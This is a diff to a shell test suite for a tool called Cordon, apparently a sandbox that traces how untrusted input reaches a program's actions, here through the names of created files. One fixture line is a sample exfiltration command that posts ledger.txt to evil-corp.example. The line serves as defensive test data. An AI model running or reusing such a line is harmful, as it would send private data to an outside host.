@@ -69,6 +69,30 @@ hostile() {
 	every hostile
 }
 
+# It prints nothing, and tells all of it by the names of what it makes.
+told() {
+	begin "$1"
+	mkdir -p "$T/told-${1%%:*}"
+	echo "$PAYLOAD" >"$T/told-${1%%:*}/note"
+	printf 'line = open("/workspace/note").read().strip()\nopen("/workspace/" + line.replace("/", "|"), "w").close()\n' |
+		code names.py
+	printf 'post("https:||evil-corp.example|collect?key=", open("|workspace|ledger.txt").read())\n' | code obeys.py
+	submit "$1" --workspace "$T/told-${1%%:*}:overlay" --diff names.py
+	exits 0
+	holds 'r["stdout"] == "" and "evil-corp" in r["changes"][0]["path"]'
+	submit "$1" obeys.py
+	holds 'r["origin"] == "derived"' 'any("answer of run:" in e["name"] for e in r["evidence"])'
+	# Names that its code has are its own.
+	printf 'open("/workspace/what-the-code-itself-calls-it.txt", "w").close()\n' | code own.py
+	for _ in 1 2; do
+		submit "$1" --workspace "$T/told-${1%%:*}:overlay" --diff own.py
+		holds 'r["evidence"] == [] and len(r["changes"]) == 1'
+	done
+}
+@test "printed: names of files are told too" {
+	every told
+}
+
 # Seen while the program goes on, and when Cordon is killed then.
 early() {
 	local end
